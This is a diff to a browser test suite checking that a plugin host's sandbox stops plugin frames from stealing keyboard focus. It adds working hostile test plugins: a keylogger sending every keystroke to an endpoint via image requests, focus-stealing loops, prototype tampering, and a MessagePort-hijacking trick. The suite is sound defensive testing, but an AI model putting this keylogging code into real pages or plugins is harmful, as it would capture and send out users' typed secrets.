@@ -1,23 +1,78 @@
 import type { Page } from 'playwright-core';
 import { suite } from 'uvu';
 import * as assert from 'uvu/assert';
-import { hasBrowser, openSession } from '../console/console-bench.ts';
+import { hasBrowser, holds, openSession } from '../console/console-bench.ts';
 import { eventually } from '../helpers/within.ts';
 import { beside, closed, type Rig, startRig } from './attack-rig.ts';
-import { extension, rootOf, stateOf } from './bundle-folder.ts';
+import { extension, rootOf, stateOf, stillRuns } from './bundle-folder.ts';
+
+/** Tells `where` what it learns of the keyboard: by every event on everything, and by looking. */
+const spying = (where: string) => `
+  element.innerHTML = '<input><p contenteditable>w</p>';
+  const [input, editable] = element.children;
+  const tell = (how, what) => { new Image().src = ${where} + 'typed?' + how + '=' + encodeURIComponent(what); };
+  for (const kind of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'textInput', 'paste', 'compositionstart', 'compositionupdate', 'compositionend'])
+    for (const target of [window, document, document.documentElement, document.body, element, input, editable])
+      for (const capture of [true, false]) target.addEventListener(kind, (event) => tell(kind, event.key ?? event.data ?? ''), { capture });
+  setInterval(() => {
+    if (input.value !== '') tell('value', input.value);
+    if (element.textContent !== 'w') tell('text', element.textContent);
+  }, 10);`;
+
+/** How a frame takes the keyboard; each is a bundle of its own, and each is stopped for it. */
+const thefts: Record<string, string> = {
+  'focuses-an-input': `setInterval(() => { window.focus(); input.focus(); }, 15);`,
+  'focuses-its-window': `input.remove(); setInterval(() => { window.focus(); }, 15);`,
+  'makes-all-editable': `
+    try { document.designMode = 'on'; } catch {} document.body.contentEditable = 'true';
+    try { editable.editContext = new EditContext(); editable.editContext.addEventListener('textupdate', ({ text }) => tell('editContext', text)); } catch {}
+    setInterval(() => { window.focus(); editable.focus(); getSelection().selectAllChildren(document.body); }, 15);`,
+  // With the port it could say that a person has come in.
+  'looks-for-the-port': `
+    const have = (port) => { if (port instanceof MessagePort) for (const t of ['input', 'focus']) port.postMessage({ t, pointer: true, turn: 1 }); };
+    const look = () => { for (const one of [globalThis.event, globalThis.event?.target, globalThis.event?.currentTarget]) have(one); };
+    const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data');
+    Object.defineProperty(MessageEvent.prototype, 'data', { get() { have(this.target); return { t: 'keyboard', turn: 1 }; } });
+    Object.defineProperty(Object.prototype, 'then', { get() { look(); } });
+    Object.entries = new Proxy(Object.entries, { apply(target, self, given) { look(); return Reflect.apply(target, self, given); } });
+    for (const name of ['get', 'set', 'delete']) { const own = Map.prototype[name]; Map.prototype[name] = function (...given) { look(); return Reflect.apply(own, this, given); }; }
+    Error.prepareStackTrace = (_, calls) => { for (const call of calls) { have(call.getThis()); look(); } };
+    setInterval(() => { context.request('/api/sessions').catch(() => 0); }, 500);
+    setInterval(() => { window.focus(); input.focus(); }, 15);`,
+  'tampers-with-prototypes': `
+    for (const name of ['preventDefault', 'stopImmediatePropagation', 'stopPropagation']) Event.prototype[name] = () => {};
+    for (const [prototype, name] of [[KeyboardEvent.prototype, 'key'], [Event.prototype, 'target'], [Event.prototype, 'isTrusted']])
+      try { Object.defineProperty(prototype, name, { get() { tell('getter', name); return window; } }); } catch {}
+    Document.prototype.hasFocus = () => true; HTMLElement.prototype.blur = () => {};
+    Function.prototype.call = Function.prototype.apply = Function.prototype.bind = function () { return () => {}; };
+    Object.defineProperty(HTMLElement, Symbol.hasInstance, { value: () => false });
+    for (const listen of ['focus', 'blur']) window.addEventListener(listen, (event) => event.stopImmediatePropagation(), true);
+    for (const kind of ['blur', 'pointerdown']) setInterval(() => { window.dispatchEvent(new PointerEvent(kind)); }, 10);
+    try { document.open(); document.close(); } catch {}
+    setInterval(() => { (0, top.focus)(); top.focus.call?.(window); input.focus(); }, 15);`,
+};
 
 const test = suite<Rig>('A bundle can not take the keyboard');
 
-/** Whatever is typed into the frame is told to `where`, letter by letter. */
-const stealing = (where: string) => `
-  element.innerHTML = '<input>';
-  const input = element.firstChild;
-  input.oninput = () => { new Image().src = ${where} + 'typed?' + encodeURIComponent(input.value); };
-  setInterval(() => { window.focus(); input.focus(); }, 15);`;
-
 test.before(async (rig) => {
   const made = await startRig((bundles) => {
-    bundles.add('steals', extension(stealing(`context.endpoint + '/plugins/steals/'`)));
+    for (const [name, code] of Object.entries(thefts)) {
+      const where = `context.endpoint + '/plugins/${name}/'`;
+      bundles.add(name, extension(`${spying(where)} ${code}`));
+    }
+    const steal = `setInterval(() => { window.focus(); input.focus(); }, 15);`;
+    const waits = `document.addEventListener('click', () => setTimeout(() => { ${steal} }, 1000));`;
+    bundles.add(
+      'waits-for-a-click',
+      extension(`${spying(`context.endpoint + '/plugins/waits-for-a-click/'`)} ${waits}`),
+    );
+    bundles.add(
+      'nests',
+      extension(
+        `element.textContent = 'nests'; setInterval(() => { if (!frames[0]) document.body.append(document.createElement('iframe')); frames[0]?.focus(); }, 15);`,
+      ),
+    );
+    bundles.add('while-discovered', `setInterval(() => window.focus(), 5); await new Promise(() => {});`);
     bundles.add(
       'asks',
       extension(
@@ -29,54 +84,97 @@ test.before(async (rig) => {
 });
 test.after((rig) => rig.close());
 
-test('focus theft: the keyboard comes back at once, and the third time the thief is stopped', async (rig) => {
-  const session = await rig.bench.newSession('Typing');
-  await beside(rig, ['steals'], async (page) => {
-    const typed = listen(page);
-    await openSession(page, session);
-    const composer = page.locator('.composer textarea');
-    await composer.click();
-    let pressed = 0;
-    await eventually(
-      40_000,
-      async () => {
-        pressed++;
-        await page.keyboard.press('x');
-        return pressed >= 17 && (await page.locator('iframe[title="steals: x"]').count()) === 0;
-      },
-      'the end of the thief',
-    );
-    // Letters that were on their way when the frame took the keyboard can't be called back; without the guard all reach it.
-    assert.ok(typed.length <= pressed / 2, `${typed.length} of ${pressed} letters reached the frame`);
-    console.log(
-      `\nFIGURE letters that reached a frame that steals the keyboard every 15 ms: ${typed.length} of ${pressed}`,
-    );
-    assert.ok((await composer.inputValue()).length > 0, 'the composer got letters');
-    await page.evaluate(`location.hash = '#/settings/plugins'`);
-    await stateOf(page, 'steals', 'quarantined').waitFor({ timeout: 40_000 });
-    assert.match(await page.locator('[data-plugin="steals"] .problem').innerText(), /keyboard three times/);
+for (const name of [...Object.keys(thefts), 'nests'])
+  test(`${name}: nothing that is typed reaches it, it is stopped, and the keyboard is back where it was`, async (rig) => {
+    const session = await rig.bench.newSession(name);
+    await beside(rig, [name], async (page) => {
+      const typed = listen(page);
+      await openSession(page, session);
+      const composer = page.locator('.composer textarea');
+      await composer.click();
+      await composer.fill('kept');
+      const pressed = await typeUntilGone(page, name);
+      assert.equal(typed, [], `of ${pressed} letters`);
+      const { activeElement, text, caret } = await whereTyped(page);
+      assert.is(activeElement, 'TEXTAREA');
+      assert.ok(text.startsWith('kept'), text);
+      assert.is(caret, text.length);
+      await page.keyboard.type(', and more');
+      assert.is(await composer.inputValue(), `${text}, and more`);
+      console.log(`\nFIGURE ${name}: 0 of ${pressed} letters read; ${pressed + 4 - text.length} lost on the way`);
+      await page.evaluate(`location.hash = '#/settings/plugins'`);
+      await stateOf(page, name, 'quarantined').waitFor({ timeout: 40_000 });
+      assert.match(await page.locator(`[data-plugin="${name}"] .problem`).innerText(), /keyboard three times/);
+      await stillRuns(page, 'neighbour');
+      assert.equal(typed, []);
+    });
   });
 
-  const { foreign, bench } = rig;
-  const context = await bench.browser.newContext();
-  const page = await context.newPage();
-  await page.goto(`${foreign.control.url}page`);
-  await page.evaluate(`document.body.innerHTML = '<textarea></textarea>'; document.querySelector('textarea').focus();
-    const frame = document.createElement('iframe');
-    frame.sandbox = 'allow-scripts';
-    frame.srcdoc = '<body><div></div><script>const element = document.querySelector("div"); ${stealing(`"${foreign.control.url}"`).replaceAll("'", "\\'").replaceAll('\n', ' ')}</' + 'script>';
-    document.body.append(frame);`);
-  const heard = () => foreign.control.heard.some((path) => path.startsWith('/typed?'));
-  await eventually(
-    20_000,
-    async () => {
+test('even while nobody takes the keyboard back', (rig) =>
+  beside(rig, ['focuses-an-input'], async (page) => {
+    // The console never hears that it lost it.
+    await page.addInitScript(
+      `if (self === top) addEventListener('blur', (event) => event.stopImmediatePropagation(), true);`,
+    );
+    await page.reload();
+    await openSession(page, await rig.bench.newSession('Nobody'));
+    const typed = listen(page);
+    const composer = page.locator('.composer textarea');
+    await composer.fill('kept');
+    const holds = () => page.evaluate(`document.activeElement.title === 'focuses-an-input: x'`);
+    await eventually(20_000, async () => (await holds()) === true, 'the theft');
+    for (let at = 0; at < 100; at++) {
       await page.keyboard.press('x');
-      return heard();
-    },
-    'the same without a guard',
-  );
-  await closed(context);
-});
+      await page.keyboard.insertText('é');
+    }
+    await stillRuns(page, 'neighbour');
+    assert.equal(typed, []);
+    assert.is(await composer.inputValue(), 'kept');
+    assert.is(await holds(), true);
+  }));
+
+test('waits-for-a-click: what was given with a click ends when the person goes elsewhere', (rig) =>
+  beside(rig, ['waits-for-a-click'], async (page) => {
+    const session = await rig.bench.newSession('Elsewhere');
+    await openSession(page, session);
+    await rootOf(page, 'waits-for-a-click').locator('input').click();
+    await page.keyboard.type('here');
+    const typed = listen(page);
+    await page.locator('.composer textarea').click();
+    await typeUntilGone(page, 'waits-for-a-click');
+    // It may repeat what it was given.
+    assert.equal(
+      typed.filter((url) => /=.*[xé]/.test(decodeURIComponent(url))),
+      [],
+    );
+    assert.is((await whereTyped(page)).activeElement, 'TEXTAREA');
+  }));
+
+test('while it is discovered: it is not taken', (rig) =>
+  beside(rig, ['while-discovered'], async (page) => {
+    await page.evaluate(`location.hash = '#/settings/plugins'`);
+    await stateOf(page, 'while-discovered', 'failed').waitFor({ timeout: 40_000 });
+    assert.match(await page.locator('[data-plugin="while-discovered"] .problem').innerText(), /took the keyboard/);
+  }));
+
+for (const [name, code] of Object.entries(thefts))
+  test(`${name}: without the sandbox document the same frame reads what is typed`, async ({ foreign, bench }) => {
+    const context = await bench.browser.newContext();
+    const page = await context.newPage();
+    await page.goto(`${foreign.control.url}page`);
+    const html = `<body><div></div><script>const element = document.querySelector('div'); const context = { request: async () => 0 }; ${spying(`'${foreign.control.url}${name}/'`)} ${code}</script>`;
+    await page.evaluate(`document.body.innerHTML = '<textarea></textarea>'; document.querySelector('textarea').focus();
+      document.body.append(Object.assign(document.createElement('iframe'), { sandbox: 'allow-scripts', srcdoc: ${JSON.stringify(html).replaceAll('</', '<\\/')} }));`);
+    await eventually(
+      20_000,
+      async () => {
+        await page.keyboard.press('x');
+        return foreign.control.heard.some((path) => path.startsWith(`/${name}/typed?`));
+      },
+      'a letter',
+    );
+    await closed(context);
+  });
 
 test('a person who clicks into a frame, or tabs into it, keeps the keyboard there', async (rig) => {
   const session = await rig.bench.newSession('Forms');
@@ -99,13 +197,11 @@ test('a person who clicks into a frame, or tabs into it, keeps the keyboard ther
     assert.is(await page.locator('.composer textarea').inputValue(), 'first here, then here');
 
     await page.locator('.search input, input[type="search"]').first().focus();
+    await tabInto(page, 'asks: x');
     await eventually(
-      20_000,
-      async () => {
-        await page.keyboard.press('Tab');
-        return (await page.evaluate('document.activeElement.title')) === 'asks: x';
-      },
-      'the focus in the frame by the Tab key',
+      10_000,
+      async () => (await input.evaluate('document.activeElement.tagName')) === 'INPUT',
+      'the focus in the field',
     );
     await page.keyboard.type('!');
     await eventually(10_000, async () => /!/.test((await echo.textContent()) ?? ''), 'what was typed there');
@@ -114,6 +210,47 @@ test('a person who clicks into a frame, or tabs into it, keeps the keyboard ther
   });
 });
 
+if (hasBrowser()) test.run();
+
+/** Types letter by letter, with and without key events, until the frame is gone. */
+async function typeUntilGone(page: Page, name: string): Promise<number> {
+  let pressed = 0;
+  await eventually(
+    40_000,
+    async () => {
+      pressed += 2;
+      await page.keyboard.press('x');
+      await page.keyboard.insertText('é');
+      return pressed >= 200 && (await page.locator(`iframe[title="${name}: x"]`).count()) === 0;
+    },
+    'the end of the thief',
+  );
+  return pressed;
+}
+
+/** Presses the Tab key, each time when it has led somewhere, until a frame has the keyboard. */
+async function tabInto(page: Page, title: string): Promise<void> {
+  await eventually(
+    20_000,
+    async () => {
+      await page.evaluate('window.left = document.activeElement');
+      await page.keyboard.press('Tab');
+      await holds(page, 'document.activeElement !== left && document.activeElement !== document.body');
+      return (await page.evaluate('document.activeElement.title')) === title;
+    },
+    'the focus in the frame by the Tab key',
+  );
+}
+
+/** What has the keyboard, its text, and where the next letter would stand. */
+async function whereTyped(page: Page): Promise<{ activeElement: string; text: string; caret: number }> {
+  return JSON.parse(
+    await page.evaluate(
+      `(() => { const { activeElement } = document; return JSON.stringify({ activeElement: activeElement.tagName, text: activeElement.value, caret: activeElement.selectionStart }); })()`,
+    ),
+  );
+}
+
 function listen(page: Page): string[] {
   const typed: string[] = [];
   page.on('request', (request) => {
@@ -121,5 +258,3 @@ function listen(page: Page): string[] {
   });
   return typed;
 }
-
-if (hasBrowser()) test.run();
